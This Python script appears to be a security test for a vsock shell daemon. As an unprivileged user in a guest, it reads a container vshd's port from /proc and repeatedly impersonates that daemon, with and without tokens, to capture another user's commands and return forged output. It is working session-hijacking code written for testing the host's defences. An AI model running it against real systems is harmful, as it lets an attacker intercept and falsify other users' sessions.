"""Inside a guest, as an ordinary user: takes over sessions of containers, if the host lets it. SECONDS to try for.

It reads the port that a container's vshd is told from that process's arguments, which every user can, connects at once
and again and again, and answers as a vshd would: in ChromeOS's protocol, as an extended peer without a token, and with
a token of its own. What it prints last: how often it connected, and how often it was sent what only the container's
vshd may see. argv: SECONDS, and the secret word of the victim's command.
"""

import os
import re
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path

from vshd.wire import messages
from vshd.wire.connection import default_limits
from vshd.wire.proof import NONCE_BYTES, SERVER, TOKEN_BYTES, Proof
from vshd.wire.server import ServerConnection

HOST_CID = 2
PORT = re.compile(rb"--forward_to_host_port=(\d+)")
# Ports that a host without a choice of its own would take first.
GUESSES = [*range(49152, 49156), *range(100_000, 100_004)]
# A host that has nothing for a caller says nothing.
PATIENCE_S = 0.3


def find_ports() -> set[int]:
    """Those in the arguments of the system's processes."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found |= {int(port) for port in PORT.findall(Path(f"/proc/{pid}/cmdline").read_bytes())}
        except OSError:
            continue
    return found


def make_servers() -> Iterator[ServerConnection]:
    yield ServerConnection(None)
    yield ServerConnection(default_limits())
    yield ServerConnection(default_limits(), Proof(SERVER, os.urandom(TOKEN_BYTES), os.urandom(NONCE_BYTES)))


def try_once(port: int, server: ServerConnection, secret: bytes) -> tuple[bool, bool]:
    """Whether the connection stood, and whether the victim's command came."""
    seen = b""
    with socket.socket(socket.AF_VSOCK) as connection:
        connection.settimeout(PATIENCE_S)
        try:
            connection.connect((HOST_CID, port))
        except OSError:
            return False, False
        try:
            while secret not in seen and not server.is_finished:
                data = connection.recv(1 << 16)
                if not data:
                    break
                seen += data
                server.receive_data(data)
                if server.state == "preparing":
                    server.accept(os.getpid())
                    server.receive_data(b"")
                    server.send_data(messages.STDOUT, b"forged\n")
                    for stream in (messages.STDOUT, messages.STDERR):
                        server.send_end(stream)
                    server.send_exit(0)
                connection.sendall(server.output.take())
        except OSError:
            pass
    return True, secret in seen


def main() -> None:
    deadline_s = time.monotonic() + float(sys.argv[1])
    secret = sys.argv[2].encode()
    connected = won = 0
    print("ready", flush=True)
    while time.monotonic() < deadline_s:
        for port in find_ports() or GUESSES:
            for server in make_servers():
                stood, is_mine = try_once(port, server, secret)
                connected += stood
                won += is_mine
    print(connected, won)


main()
